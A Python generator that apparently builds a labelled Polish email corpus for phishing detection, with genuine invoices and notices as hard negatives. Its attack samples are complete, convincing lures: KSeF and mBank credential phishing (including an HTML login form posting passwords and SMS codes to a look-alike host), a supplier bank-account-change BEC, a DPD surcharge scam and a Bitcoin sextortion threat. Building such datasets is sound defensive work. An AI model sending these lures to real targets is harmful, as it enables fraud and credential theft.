"""Polish messages: 5 attacks, 5 genuine."""
import base64
import hashlib

import files
import ids
import infra as I
import qr
from common import to_utc, hhex, hstr, ALNUM, UPPER
from company import st, BANK, TAX
from docs import invoice
from ids import pretty, fmt_nip
from lib import Msg, plain, html, alt, mixed, related, att, text_att, quote_outlook

KW = st('katarzyna.wojcik')
PL_ = st('pawel.lukasik')
TS = st('tobias.schaefer')

TZ = ('Tadeusz Zieliński', 't.zielinski@partner-logistik.pl')
KSIEG = ('Partner Logistik - Księgowość', 'ksiegowosc@partner-logistik.pl')
NIP_EX = TAX['exgroup_pl']
NIP_PL = TAX['partner']

STOPKA = """Partner Logistik sp. z o.o.
ul. Logistyczna 8, 55-040 Bielany Wrocławskie
NIP %s | KRS 0000418827 | tel. +48 71 311 62 00""" % fmt_nip(NIP_PL)


def attacks():
    out = []

    # ------------------------------------------------------------------ A22
    link = 'https://ksef-aplikacja-podatnika.com/logowanie?nip=%s&sid=%s' % (NIP_EX, hhex('a22', 20))
    src = """Szanowni Państwo,

informujemy, że token autoryzacyjny KSeF wygenerowany dla podmiotu o NIP %s wygasa z dniem 20.11.2026 r.

Brak ponownej weryfikacji uprawnień uniemożliwi wystawianie i odbieranie faktur ustrukturyzowanych w Krajowym Systemie e-Faktur, co może skutkować nałożeniem kar, o których mowa w art. 106ni ustawy o VAT.

Aby przedłużyć ważność tokenu, zaloguj się do Aplikacji Podatnika KSeF i potwierdź dane uwierzytelniające (Profil Zaufany, bankowość elektroniczna lub certyfikat KSeF):

[[!Zaloguj się do Aplikacji Podatnika KSeF|%s]]

Wiadomość została wygenerowana automatycznie. Prosimy na nią nie odpowiadać.

Ministerstwo Finansów
Krajowy System e-Faktur""" % (fmt_nip(NIP_EX), link)
    out.append(Msg('attack', 'pl', 'ksef-token-phishing',
        what='Credential phishing themed on KSeF (national e-invoicing): "authorisation token expires", log in to the "Aplikacja Podatnika".',
        why='KSeF/Ministry of Finance does not send such e-mails; sent via a SendGrid account from powiadomienia-ksef.pl; link to look-alike ksef-aplikacja-podatnika.com harvesting Profil Zaufany / bank credentials; threat of sanctions under art. 106ni. Compare genuine KSeF invoice B22.',
        when=(2026, 11, 13, 7, 5, 41), zone='PL', infra=I.sendgrid('a22', 'em2281.powiadomienia-ksef.pl'),
        frm=('Krajowy System e-Faktur', 'powiadomienia@powiadomienia-ksef.pl'), to=[PL_],
        subject='KSeF: wygaśnięcie tokenu autoryzacyjnego - wymagana ponowna weryfikacja',
        body=alt(src, 'iso-8859-2', 'quoted-printable', style='generic', accent='#c8102e', title='KSeF', lang='pl'),
        hcs=('iso-8859-2', 'Q'), date_zone='UTC'))

    # ------------------------------------------------------------------ A23
    acc = BANK['a23_pl']
    src = """Dzień dobry Panie Pawle,

w nawiązaniu do rozmowy z Panią Katarzyną informuję, że od listopada zmieniamy bank obsługujący rozliczenia z klientami. Prosimy o regulowanie należności za faktury FV/2026/10/0388 oraz FV/2026/10/0412 (łącznie 61 874,30 zł) na nowy rachunek:

Santander Bank Polska S.A.
nr rachunku: %s

Rachunek jest w trakcie zgłaszania do wykazu podatników VAT (tzw. białej listy) - aktualizacja w wykazie może potrwać kilka dni, więc proszę się nie sugerować, jeśli jeszcze go tam nie ma. Płatność proszę zrealizować bez mechanizmu podzielonej płatności, nasz rachunek VAT jest w trakcie przenoszenia.

Stary rachunek w mBanku zostanie zamknięty 30.11. Proszę o potwierdzenie zmiany w Państwa systemie.

Z poważaniem
Tadeusz Zieliński
Kierownik ds. Kluczowych Klientów
""" % pretty(acc)[2:].strip() + STOPKA.replace('partner-logistik', 'partner-logistic')
    src += quote_outlook('pl', 'Katarzyna Wójcik <katarzyna.wojcik@example.com>', 'poniedziałek, 2 listopada 2026 14:20',
                         'Tadeusz Zieliński <t.zielinski@partner-logistik.pl>', 'Faktury za październik',
                         'Panie Tadeuszu,\n\nfaktury za październik przekazałam do księgowości, płatność zgodnie z terminem.\n\nPozdrawiam\nKatarzyna Wójcik')
    out.append(Msg('attack', 'pl', 'partner-logistik-lookalike-rachunek',
        what='Logistics-partner BEC: "Tadeusz Zieliński" (Partner Logistik) replies in a stolen thread and asks to pay two invoices to a new Santander account, outside split payment.',
        why='Look-alike domain partner-logistic.pl (real: partner-logistik.pl) on OVH Email Pro; new account not on the VAT white list (pre-emptively excused), asks to bypass split payment (MPP), old account "closed" - supplier-impersonation BEC. Compare genuine B22/B23.',
        when=(2026, 11, 5, 10, 36, 18), zone='PL', infra=I.ovh_mail('a23', 'partner-logistic.pl', '146.70.117.201'),
        frm=(TZ[0], 't.zielinski@partner-logistic.pl'), to=[PL_], cc=[KW],
        subject='Odp: Faktury za październik - nowy numer rachunku',
        in_reply_to='<3e9a1f0b7c2d4e85a6f1b2c3d4e5f607@EX02.ad.example.com>',
        references='<3e9a1f0b7c2d4e85a6f1b2c3d4e5f607@EX02.ad.example.com>',
        body=alt(src, 'windows-1250', 'quoted-printable', style='outlook', lang='pl'),
        hcs=('windows-1250', 'Q'), content_lang='pl'))

    # ------------------------------------------------------------------ A24
    nr = '1000438122765U'
    zname = 'DPD_Etykieta_%s.zip' % nr
    t = to_utc('PL', 2026, 12, 8, 12, 44, 9)
    z = files.zipfile_bytes([('Etykieta_DPD_%s.pdf.exe' % nr, b'placeholder: inert test artefact, not an executable\n')],
                            t, 'PL', key='a24')
    link = 'https://dpd-doplata.pl-paczka.info/oplata?nr=%s' % nr
    src = """Dzień dobry,

Twoja przesyłka nr %s została wstrzymana w oddziale DPD Wrocław z powodu niedopłaty za przekroczenie gabarytu (2,99 zł).

Aby kurier mógł doręczyć paczkę w najbliższym dniu roboczym, opłać dopłatę BLIKIEM lub kartą:

[[!Opłać dopłatę 2,99 zł|%s]]

Etykietę przesyłki z wymiarami znajdziesz w załączniku. Jeżeli dopłata nie zostanie uregulowana w ciągu 48 godzin, przesyłka zostanie zwrócona do nadawcy.

Pozdrawiamy
Zespół DPD Polska""" % (nr, link)
    out.append(Msg('attack', 'pl', 'dpd-doplata-zip',
        what='Courier lure: "DPD Polska" demands a 2.99 zł surcharge via BLIK/card link and attaches a ZIP with "Etykieta_DPD_...pdf.exe".',
        why='Sent via an attacker\'s Amazon SES account from dpd-powiadomienia.pl (not dpd.com.pl); payment link to a look-alike card/BLIK phishing page; ZIP containing a double-extension executable name (inert placeholder) - courier phishing with malware delivery.',
        when=(2026, 12, 8, 12, 44, 9), zone='PL', infra=I.ses('a24', 'eu-central-1'),
        frm=('DPD Polska', 'powiadomienia@dpd-powiadomienia.pl'), to=[KW],
        subject='Przesyłka %s wstrzymana - wymagana dopłata 2,99 zł' % nr,
        body=mixed(alt(src, 'UTF-8', 'base64', style='generic', accent='#dc0032', title='DPD', lang='pl', quote_cs=False),
                   att('application/zip', zname, z, style='ses')),
        hcs=('UTF-8', 'B'), date_zone='UTC'))

    # ------------------------------------------------------------------ A25
    btc = ids.bech32_address('a25-sextortion')
    src = """Cześć!

Jak być może zauważyłaś, wysłałem Ci tę wiadomość z Twojego własnego konta. Oznacza to, że mam pełny dostęp do Twojej skrzynki i urządzenia.

Od kilku miesięcy obserwuję Cię. Twój komputer został zainfekowany złośliwym oprogramowaniem podczas odwiedzania jednej ze stron, a ja uzyskałem dostęp do kamery, mikrofonu, kontaktów i całej korespondencji. Mam nagrania, które z pewnością nie powinny trafić do Twoich współpracowników, rodziny i znajomych.

Proponuję prosty układ: przelejesz równowartość 1450 USD w Bitcoinie (BTC) na mój portfel, a ja usunę wszystkie materiały i na zawsze zniknę z Twojego życia.

Mój portfel BTC: %s

Jeśli nie wiesz, jak kupić Bitcoiny, wpisz w Google "jak kupić bitcoin". Masz 48 godzin od otwarcia tej wiadomości - widzę, kiedy ją przeczytasz. Jeśli nie zapłacisz, nagrania zostaną wysłane do wszystkich Twoich kontaktów.

Nie odpowiadaj na tę wiadomość i nie zgłaszaj jej nikomu. Zmiana hasła nic nie da.""" % btc
    out.append(Msg('attack', 'pl', 'sextortion-btc-spoofed-self',
        what='Sextortion: spoofed "from yourself", claims device compromise and recordings, demands USD 1,450 in Bitcoin within 48 h.',
        why='From and To are the victim\'s own address but the mail comes from a residential botnet host in Vietnam without TLS (not via mail-int01); mass-mailing template; valid bech32 payout address - extortion scam.',
        when=(2026, 10, 30, 3, 17, 56), zone='VN',
        infra=I.botnet('a25', 'DESKTOP-8K2J1PQ', '113.161.54.208'),
        frm=(None, KW[1]), to=[(None, KW[1])], subject=KW[1],
        body=plain(src, 'iso-8859-2', '8bit'), hcs=('iso-8859-2', 'B'), env_from=KW[1]))

    # ------------------------------------------------------------------ A26
    form = """<!DOCTYPE html>
<html lang="pl"><head><meta charset="iso-8859-2"><title>mBank CompanyNet - logowanie</title>
<style>body{font-family:Arial,sans-serif;background:#f5f5f5;margin:0}.top{background:#fff;border-bottom:3px solid #e4002b;padding:16px 30px;font-size:22px;color:#e4002b;font-weight:bold}
.f{width:400px;margin:50px auto;background:#fff;padding:30px;border:1px solid #ddd}input{width:100%;padding:10px;margin:6px 0 14px;border:1px solid #bbb;box-sizing:border-box}
button{background:#e4002b;color:#fff;border:0;padding:12px;width:100%;font-size:15px}</style></head>
<body><div class="top">mBank CompanyNet</div>
<div class="f"><h3>Autoryzacja nowego urządzenia</h3>
<p>Aby zachować dostęp do bankowości firmowej, potwierdź swoje dane logowania oraz kod SMS.</p>
<form method="post" action="https://companynet-mbank.pl-autoryzacja.com/auth/confirm">
<label>Identyfikator firmy</label><input name="cid">
<label>Identyfikator użytkownika</label><input name="uid" value="PLUKASIK">
<label>Hasło</label><input type="password" name="pwd">
<label>Kod SMS</label><input name="sms">
<button type="submit">Potwierdź</button></form></div></body></html>
"""
    src = """Szanowny Kliencie,

w związku z wdrożeniem nowych wymogów bezpieczeństwa (PSD2 / SCA) wszyscy użytkownicy systemu mBank CompanyNet zobowiązani są do ponownej autoryzacji urządzenia, z którego logują się do bankowości firmowej.

Autoryzacji należy dokonać do dnia 23.10.2026 r. Po tym terminie dostęp do systemu zostanie zablokowany, a zlecone przelewy nie zostaną zrealizowane.

Formularz autoryzacji znajduje się w załączniku. Otwórz plik w przeglądarce i postępuj zgodnie z instrukcjami.

Z poważaniem
Zespół mBank CompanyNet
mBank S.A."""
    out.append(Msg('attack', 'pl', 'mbank-companynet-html',
        what='Corporate-banking phishing: "mBank CompanyNet" demands device re-authorisation; HTML attachment with a login form (company ID, user, password, SMS code).',
        why='Sent from an Onet freemail account (mbank.companynet.powiadomienia@onet.pl), not from mBank; local HTML form posts to companynet-mbank.pl-autoryzacja.com; deadline + block threat; asks for the SMS code (real-time OTP relay).',
        when=(2026, 10, 21, 11, 9, 3), zone='PL', infra=I.onet('a26', '193.27.14.58'),
        frm=('mBank CompanyNet', 'mbank.companynet.powiadomienia@onet.pl'), to=[PL_],
        subject='CompanyNet: wymagana autoryzacja urządzenia do 23.10.2026',
        body=mixed(plain(src, 'UTF-8', 'quoted-printable', quote_cs=False),
                   text_att('text/html', 'CompanyNet_autoryzacja_urzadzenia.html', form, 'iso-8859-2', 'base64')),
        hcs=('UTF-8', 'B')))
    return out


def business():
    out = []

    # ------------------------------------------------------------------ B22
    t = to_utc('PL', 2026, 12, 1, 10, 12, 0)
    nrb = BANK['partner'][2:]
    xml = """<?xml version="1.0" encoding="UTF-8"?>
<Faktura xmlns="http://crd.gov.pl/wzor/2025/06/25/13775/">
  <Naglowek>
    <KodFormularza kodSystemowy="FA (3)" wersjaSchemy="1-0E">FA</KodFormularza>
    <WariantFormularza>3</WariantFormularza>
    <DataWytworzeniaFa>2026-11-30T15:41:07Z</DataWytworzeniaFa>
    <SystemInfo>Comarch ERP Optima</SystemInfo>
  </Naglowek>
  <Podmiot1>
    <DaneIdentyfikacyjne><NIP>%s</NIP><Nazwa>Partner Logistik sp. z o.o.</Nazwa></DaneIdentyfikacyjne>
    <Adres><KodKraju>PL</KodKraju><AdresL1>ul. Logistyczna 8</AdresL1><AdresL2>55-040 Bielany Wrocławskie</AdresL2></Adres>
  </Podmiot1>
  <Podmiot2>
    <DaneIdentyfikacyjne><NIP>%s</NIP><Nazwa>Example Group GmbH sp. z o.o. Oddział w Polsce</Nazwa></DaneIdentyfikacyjne>
    <Adres><KodKraju>PL</KodKraju><AdresL1>ul. Strzegomska 140</AdresL1><AdresL2>54-429 Wrocław</AdresL2></Adres>
  </Podmiot2>
  <Fa>
    <KodWaluty>PLN</KodWaluty>
    <P_1>2026-11-30</P_1>
    <P_2>FV/2026/11/0457</P_2>
    <P_6>2026-11-30</P_6>
    <P_13_1>38420.00</P_13_1>
    <P_14_1>8836.60</P_14_1>
    <P_15>47256.60</P_15>
    <Adnotacje><P_16>2</P_16><P_17>2</P_17><P_18>2</P_18><P_18A>1</P_18A></Adnotacje>
    <RodzajFaktury>VAT</RodzajFaktury>
    <FaWiersz><NrWierszaFa>1</NrWierszaFa><P_7>Usługi magazynowe 11/2026 (640 miejsc paletowych)</P_7><P_8A>usł.</P_8A><P_8B>1</P_8B><P_9A>24960.00</P_9A><P_11>24960.00</P_11><P_12>23</P_12></FaWiersz>
    <FaWiersz><NrWierszaFa>2</NrWierszaFa><P_7>Cross-dock i kompletacja 11/2026</P_7><P_8A>usł.</P_8A><P_8B>1</P_8B><P_9A>13460.00</P_9A><P_11>13460.00</P_11><P_12>23</P_12></FaWiersz>
    <Platnosc>
      <TerminPlatnosci><Termin>2026-12-21</Termin></TerminPlatnosci>
      <FormaPlatnosci>6</FormaPlatnosci>
      <RachunekBankowy><NrRB>%s</NrRB><NazwaBanku>mBank S.A.</NazwaBanku></RachunekBankowy>
    </Platnosc>
  </Fa>
</Faktura>
""" % (NIP_PL, NIP_EX, nrb)
    xb = xml.encode('utf-8')
    h = base64.urlsafe_b64encode(hashlib.sha256(xb).digest()).decode().rstrip('=')
    ksef_no = '%s-20261130-%s-%s' % (NIP_PL, hhex('b22k', 12, True), hhex('b22c', 2, True))
    qurl = 'https://ksef.mf.gov.pl/client-app/invoice/%s/30-11-2026/%s' % (NIP_PL, h)
    qpng = qr.qr_png(qurl, scale=4)
    pdf = invoice(['Partner Logistik sp. z o.o.', 'ul. Logistyczna 8, 55-040 Bielany Wrocławskie',
                   'NIP %s - KRS 0000418827' % fmt_nip(NIP_PL)],
                  ['Nabywca: Example Group GmbH sp. z o.o. Oddział w Polsce', 'ul. Strzegomska 140, 54-429 Wrocław',
                   'NIP %s' % fmt_nip(NIP_EX)],
                  'Faktura VAT FV/2026/11/0457',
                  [('Data wystawienia', '30.11.2026'), ('Data sprzedaży', '30.11.2026'), ('Termin płatności', '21.12.2026')],
                  [('Usługi magazynowe 11/2026 (640 miejsc paletowych)', '24 960,00 zł'),
                   ('Cross-dock i kompletacja zamówień 11/2026', '13 460,00 zł')],
                  [('Netto', '38 420,00 zł'), ('VAT 23%', '8 836,60 zł'), ('Do zapłaty', '47 256,60 zł')],
                  ['Numer KSeF: %s' % ksef_no, 'Rachunek: mBank S.A. %s' % pretty(BANK['partner']), 'Mechanizm podzielonej płatności.',
                   'Wizualizacja faktury ustrukturyzowanej z KSeF. Kod QR weryfikacyjny w załączniku.'],
                  t, 'PL', 'Comarch ERP Optima', 'Comarch ERP Optima', head_cols=('Lp.', 'Nazwa towaru lub usługi', 'Wartość'))
    zname = 'FV_2026_11_0457.zip'
    z = files.zipfile_bytes([('FV_2026_11_0457.xml', xb), ('FV_2026_11_0457.pdf', pdf)], t, 'PL', key='b22')
    src = """Dzień dobry,

w załączeniu przesyłamy fakturę FV/2026/11/0457 za usługi magazynowe i cross-dock w listopadzie 2026 r.

Faktura została wystawiona w KSeF, numer KSeF: %s
W archiwum ZIP znajdą Państwo plik XML oraz wizualizację PDF, osobno kod QR weryfikacyjny.

Kwota do zapłaty: 47 256,60 zł, termin płatności: 21.12.2026 r.
Rachunek bez zmian: mBank S.A. %s (zgłoszony w wykazie podatników VAT), mechanizm podzielonej płatności.

Z poważaniem
Dział Księgowości
""" % (ksef_no, pretty(BANK['partner'])) + STOPKA
    out.append(Msg('business', 'pl', 'partner-logistik-faktura-ksef',
        what='Partner Logistik sends its November KSeF invoice: ZIP with FA(3) XML and PDF visualisation, plus the KSeF verification QR code (PNG).',
        why='Real domain partner-logistik.pl via its home.pl hosting; usual mBank account on the VAT white list, split payment; the QR code points to the official ksef.mf.gov.pl verification URL with the invoice hash. Hard negative of A22 and A23.',
        when=(2026, 12, 1, 10, 12, 0), zone='PL',
        infra=I.homepl('b22', 'partner-logistik.pl', '89.74.210.14', '89-74-210-14.dynamic.chello.pl'),
        frm=KSIEG, to=[PL_], subject='Faktura FV/2026/11/0457 - Partner Logistik sp. z o.o.',
        body=mixed(alt(src, 'iso-8859-2', 'quoted-printable', style='outlook', lang='pl'),
                   att('application/x-zip-compressed', zname, z),
                   att('image/png', 'FV_2026_11_0457_KOD_QR.png', qpng)),
        hcs=('iso-8859-2', 'Q'), content_lang='pl'))

    # ------------------------------------------------------------------ B23
    src = """Pani Katarzyno,

przed świętami magazyn w Bielanach przyjmuje dostawy tylko do piątku 18.12. Ze względu na obłożenie ramp prosimy o awizację wszystkich dostaw od Państwa do czwartku 10.12 do godz. 12:00 - po tym terminie nie gwarantujemy rozładunku przed świętami.

Ostatnie wolne okna czasowe:
- 14.12 godz. 6:00-8:00 i 14:00-16:00
- 15.12 godz. 10:00-12:00
- 16.12 godz. 6:00-8:00

Przy okazji: w przyszłym tygodniu otrzymają Państwo od nas pismo w sprawie waloryzacji stawek na 2027 r. Wysyłamy je jak zawsze podpisane, również pocztą tradycyjną. Nasze dane do płatności się nie zmieniają.

Pozdrawiam serdecznie
Tadeusz Zieliński
Kierownik ds. Kluczowych Klientów
tel. kom. +48 601 772 418

""" + STOPKA
    out.append(Msg('business', 'pl', 'zielinski-awizacja-pilne',
        what='Logistics partner urgently asks for delivery advice (awizacja) before the Christmas cut-off, lists the last free slots.',
        why='Real contact on the real domain via home.pl with Thunderbird; operational urgency without any payment request; mentions that letters come signed and by post and that payment details do not change. Hard negative of A23.',
        when=(2026, 12, 3, 8, 27, 45), zone='PL',
        infra=I.homepl('b23', 'partner-logistik.pl', '83.24.101.77', 'aeai77.neoplus.adsl.tpnet.pl', mua='thunderbird'),
        frm=TZ, to=[KW], cc=[TS], subject='PILNE: awizacja dostaw przed świętami - ostatnie okna czasowe',
        body=plain(src, 'windows-1250', '8bit', flowed=True), hcs=('UTF-8', 'Q'), content_lang='pl'))

    # ------------------------------------------------------------------ B24
    src = """Kasiu,

mój służbowy laptop od rana się nie uruchamia (czarny ekran, miga tylko dioda ładowania). Piszę z prywatnej poczty, bo na telefonie nie mam skonfigurowanego Outlooka.

Zgłosiłem to telefonicznie na helpdesk w Norymberdze, numer zgłoszenia INC-2026-18842. Do czasu naprawy siedzę przy komputerze w sali konferencyjnej, mam tam tylko dostęp do przeglądarki.

Gdyby ktoś pilnie czegoś potrzebował z księgowości, niech dzwoni na komórkę. Przelewy i tak zatwierdzam dopiero jutro z nowego sprzętu.

Paweł"""
    out.append(Msg('business', 'pl', 'laptop-prywatna-poczta',
        what='Accountant Paweł Łukasik tells his office manager from his private WP mailbox that his laptop is broken.',
        why='Private WP.pl mailbox from a Polish residential IP; refers to a real helpdesk ticket; requests nothing and explicitly defers payment approvals. Hard negative of staff impersonation from freemail (A07, A36).',
        when=(2026, 11, 23, 8, 4, 17), zone='PL',
        infra=I.wp('b24', '83.21.187.44', 'user-83-21-187-44.play-internet.pl', 'pawel.lukasik83'),
        frm=('Paweł Łukasik', 'pawel.lukasik83@wp.pl'), to=[KW],
        subject='Laptop nie działa - piszę z prywatnej poczty',
        body=plain(src, 'ISO-8859-2', 'quoted-printable', flowed=True, quote_cs=False), hcs=('ISO-8859-2', 'Q'),
        content_lang='pl'))

    # ------------------------------------------------------------------ B25
    src = """Dzień dobry Pani Katarzyno,

w dostawie z 10.12 (zamówienie ZN/2026/1147, faktura FV/PL/2026/3318) w grze planszowej "Wyprawa do Krainy Smoków" brakuje elementów: w 4 z 12 pudełek nie ma woreczka z żetonami, a w 2 brakuje instrukcji po polsku.

Towar stoi u nas na zapleczu, nie wystawiałem go do sprzedaży. Proszę o informację, czy przyślecie brakujące elementy, czy mam odesłać te 6 sztuk. Przed świętami zależy mi na czasie, bo to dobrze schodzi.

Zdjęcia w załączeniu wyślę jutro z telefonu.

Pozdrawiam
Marek Nowak
Zabawki Nowak s.c., Kraków
tel. 12 422 81 36"""
    out.append(Msg('business', 'pl', 'reklamacja-brakujace-elementy',
        what='Customer complaint from a Kraków toy shop (Onet freemail): missing tokens and instructions in a board game delivery.',
        why='Known small customer writing from his usual Onet address; concrete order and invoice numbers; asks for replacement parts, no links or payment data.',
        when=(2026, 12, 14, 13, 51, 29), zone='PL', infra=I.onet('b25', '31.183.97.206'),
        frm=('Marek Nowak', 'zabawki.nowak@onet.pl'), to=[KW],
        subject='Reklamacja - brakujące elementy w grach planszowych',
        body=plain(src, 'utf-8', 'base64'), hcs=('utf-8', 'B'), content_lang='pl'))

    # ------------------------------------------------------------------ B26
    code = '482917'
    src = """Konto Microsoft

Kod zabezpieczający

Użyj poniższego kodu zabezpieczającego dla konta Microsoft ka*****@example.com.

Kod zabezpieczający: **%s**

Jeśli nie rozpoznajesz konta Microsoft ka*****@example.com, możesz [[kliknąć tutaj|https://account.live.com/dp?ft=%s]], aby usunąć swój adres e-mail z tego konta.

Dziękujemy,
Zespół kont Microsoft

Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
[[Zasady zachowania poufności informacji|https://go.microsoft.com/fwlink/?LinkId=521839]]""" % (code, hstr('b26', 64, ALNUM + '-_!*'))
    out.append(Msg('business', 'pl', 'microsoft-kod-zabezpieczajacy',
        what='Genuine Microsoft account security code (Polish) for the office manager, who is signing in to a Microsoft account registered on her work address.',
        why='From account-security-noreply@accountprotection.microsoft.com via Microsoft\'s outbound protection; only a one-time code and links to account.live.com / microsoft.com; no request to enter credentials elsewhere. Genuine service notice (contrast A26/A22 credential phishing).',
        when=(2026, 10, 14, 9, 27, 3), zone='PL', infra=I.ms_notify('b26', 'msa'),
        frm=('Zespół kont Microsoft', 'account-security-noreply@accountprotection.microsoft.com'), to=[(None, KW[1])],
        subject='Kod zabezpieczający konta Microsoft',
        body=alt(src, 'utf-8', 'quoted-printable', style='generic', accent='#2672ec', title='Konto Microsoft', lang='pl'),
        hcs=('utf-8', 'B'), date_zone='UTC'))
    return out
